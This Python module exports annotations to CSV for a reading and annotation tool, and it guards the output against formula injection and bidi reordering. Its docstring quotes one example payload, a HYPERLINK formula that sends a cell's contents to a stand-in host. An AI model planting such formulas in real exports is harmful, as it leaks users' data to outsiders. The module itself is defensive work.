"""One CSV row per annotation, every field and its article's metadata, for spreadsheets,
scripts and statistics (the identities let rows from two libraries be matched).

Spreadsheet-safe by default (CSV or formula injection): a quote such as
``=HYPERLINK("https://evil.example/?"&A1,"Klik")`` would run as a formula when the file
is opened in Excel, LibreOffice or Google Sheets. Following the OWASP rule
(https://owasp.org/www-community/attacks/CSV_Injection), every cell that starts with
``=``, ``+``, ``-``, ``@``, a tab (0x09) or a carriage return (0x0D) is prefixed with a
single quote ``'``, which spreadsheets read as "this cell is text"; the csv module quotes
cells holding ``,`` or ``"`` (doubling ``"``). Control characters go too (a BEL, an
escape sequence: no words; tab and line ends stay), and a bidi embedding, override or
isolate a cell leaves open is closed at its end, so that a hostile title or speaker
(``Lav<U+202E>rov``) cannot reorder the cells after it when the row is read as text; the
cell keeps its own characters (review R18-5). ``spreadsheet_safe=False`` (the CLI's
``--raw``) keeps the values exactly as stored, for scripts that need them.
"""

from __future__ import annotations

import re
from collections.abc import Iterable, Sequence
from typing import TYPE_CHECKING, Protocol

from reader.core.export.escaping import LINE_END_CONTROLS

if TYPE_CHECKING:
    class CsvArticle(Protocol):
        """What the CSV writes of an article (``models.Article``, or the plain row a CSV
        export reads: ``library.exporting.TableArticle``)."""

        @property
        def id(self) -> int: ...
        @property
        def title(self) -> str: ...
        @property
        def source(self) -> str: ...
        @property
        def authors(self) -> str: ...
        @property
        def published(self) -> str: ...
        @property
        def published_partial(self) -> str: ...
        @property
        def published_inferred(self) -> bool: ...
        @property
        def url(self) -> str: ...
        @property
        def language(self) -> str: ...
        @property
        def uuid(self) -> str: ...

    class CsvNote(Protocol):
        """What the CSV writes of an annotation (``models.Annotation``, or
        ``library.exporting.TableNote``)."""

        @property
        def id(self) -> int: ...
        @property
        def kind(self) -> str: ...
        @property
        def exact(self) -> str: ...
        @property
        def speaker(self) -> str: ...
        @property
        def speaker_written(self) -> str: ...
        @property
        def tags(self) -> list[str]: ...
        @property
        def verdict(self) -> str: ...
        @property
        def note(self) -> str: ...
        @property
        def start(self) -> int | None: ...
        @property
        def end(self) -> int | None: ...
        @property
        def prefix(self) -> str: ...
        @property
        def suffix(self) -> str: ...
        @property
        def anchor(self) -> str: ...
        @property
        def created_at(self) -> str: ...
        @property
        def updated_at(self) -> str: ...
        @property
        def coder(self) -> str: ...
        @property
        def uuid(self) -> str: ...

__all__ = ["CSV_COLUMNS", "export_csv"]

CSV_COLUMNS = (
    "article_id", "article_title", "source", "authors", "published", "published_partial",
    "published_inferred", "url",
    "annotation_id", "kind", "exact", "speaker", "speaker_written", "tags", "verdict", "note",
    "start", "end", "prefix", "suffix", "anchor", "created_at", "updated_at", "coder",
    "language", "article_uuid", "annotation_uuid",
)  # fmt: skip


#: a cell starting with one of these is a formula to a spreadsheet (CSV injection)
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


#: C0 and C1 controls but tab and the line ends, which a cell keeps
_CONTROL = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f]")
#: the bidi controls that open a scope (embeddings and overrides; isolates) and close one
_EMBEDS, _ISOLATES = "\u202a\u202b\u202d\u202e", "\u2066\u2067\u2068"
_PDF, _PDI = "\u202c", "\u2069"
_BIDI = re.compile(f"[{_EMBEDS}{_ISOLATES}{_PDF}{_PDI}]")
#: either: what a cell (or a row of them) has nowhere, most often (``inert_text`` then
#: leaves it as it is)
_UNSAFE = re.compile(f"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f{_EMBEDS}{_ISOLATES}{_PDF}{_PDI}]")


def inert_text(text: str) -> str:
    """``text`` for a CSV cell: without control characters (tab and line ends stay; a
    vertical tab, form feed or NEL is a line end), and
    with every bidi embedding, override or isolate it leaves open closed at its end (as
    the Unicode bidi algorithm pairs them: a PDI also closes what opened inside its
    isolate), so nothing reorders the cells after it (review R18-5). Else as it is."""
    if text.isprintable() or _UNSAFE.search(text) is None:
        return text
    text = _CONTROL.sub("", text.translate(LINE_END_CONTROLS))
    open_: list[str] = []
    for char in _BIDI.findall(text):
        if char in _EMBEDS:
            open_.append(_PDF)
        elif char in _ISOLATES:
            open_.append(_PDI)
        elif char == _PDF:
            if open_ and open_[-1] == _PDF:
                open_.pop()
        elif _PDI in open_:  # (a PDI without an isolate open closes nothing)
            while open_.pop() != _PDI:
                pass
    return text + "".join(reversed(open_))


def spreadsheet_cell(value: object) -> object:
    """``value`` made inert for a spreadsheet: controls as ``inert_text``, then text that
    would start a formula gets a ``'``."""
    if isinstance(value, str):
        value = inert_text(value)
        if value.startswith(FORMULA_STARTS):
            return "'" + value
    return value


def csv_cell(value: object, spreadsheet_safe: bool = False) -> str:
    """One cell as ``csv.writer`` writes it (the excel dialect: minimal quoting): in double
    quotes, its own doubled, when it holds a comma, a double quote or a line end; None as
    nothing, a number as ``str`` gives it. ``spreadsheet_safe``: as ``spreadsheet_cell``
    (controls go, a formula start gets a ``'``)."""
    if spreadsheet_safe and isinstance(value, str):
        value = inert_text(value)
    return _cell(value, spreadsheet_safe)


def _cell(value: object, spreadsheet_safe: bool) -> str:
    """``csv_cell`` of a value with no control character (or not ``spreadsheet_safe``).
    Four ``in`` tests per cell instead of ``csv.writer``'s look-up of each character among
    the line end's (a 100,000-row export has 30 million characters, issue 12)."""
    if not isinstance(value, str):
        value = "" if value is None else str(value)
    elif spreadsheet_safe and value.startswith(FORMULA_STARTS):
        value = "'" + value
    if '"' in value:
        return '"' + value.replace('"', '""') + '"'
    if "," in value or "\n" in value or "\r" in value:
        return '"' + value + '"'
    return value


def export_csv(items: Iterable[tuple[CsvArticle, Sequence[CsvNote]]], bom: bool = False,
               spreadsheet_safe: bool | None = True) -> str:
    """CSV text (RFC 4180, CRLF rows, as ``csv.writer`` writes it); write it with
    ``newline=""`` in UTF-8.

    ``bom`` starts the text with U+FEFF so Excel reads accented names right.
    ``spreadsheet_safe`` (on unless turned off) puts a ``'`` before text starting with
    ``= + - @``, a tab or a carriage return, so a quote such as ``=HYPERLINK(…)`` stays
    text instead of becoming a formula (``None`` means the default: on). Tags are joined
    with ``"; "``. ``speaker`` is the library's person (what filters and groups by);
    ``speaker_written``, beside it, how the quote's article writes that person's name when
    it writes it otherwise ("Sergei Lavrov" for the library's "Sergey Lavrov"), empty when
    it writes the library's name or it is not known (a quote stored before Kutip kept it).
    ``published_partial``: a date the article gives without a year (``--12-22``) when
    ``published`` is empty; ``published_inferred`` "true" when ``published``'s year was
    completed from the story (its weekday), not given (R13-8: Markdown said "[inferred]",
    a spreadsheet could not tell).
    """
    safe = spreadsheet_safe is None or spreadsheet_safe
    lines = [("\ufeff" if bom else "") + ",".join(CSV_COLUMNS)]
    cell = csv_cell
    for article, anns in items:
        # (an article's cells once, not once a row; the annotation's text is looked at
        # for controls: ``inert_text``, which the others, set by Kutip, never have)
        head = ",".join([cell(v, safe) for v in (
            article.id, article.title, article.source, article.authors, article.published,
            article.published_partial, "true" if article.published_inferred else "",
            article.url)]) + ","
        middle = "," + ",".join([cell(v, safe) for v in (article.language, article.uuid)])
        for a in anns:
            lines.append(head + ",".join([
                _cell(a.id, safe), _cell(a.kind, safe), cell(a.exact, safe),
                cell(a.speaker, safe), cell(a.speaker_written if a.speaker else "", safe),
                cell("; ".join(a.tags), safe), _cell(a.verdict, safe), cell(a.note, safe),
                _cell(a.start, safe), _cell(a.end, safe), cell(a.prefix, safe),
                cell(a.suffix, safe), _cell(a.anchor, safe), _cell(a.created_at, safe),
                _cell(a.updated_at, safe), cell(a.coder, safe)]) + middle + ","
                + _cell(a.uuid, safe))
    lines.append("")
    return "\r\n".join(lines)
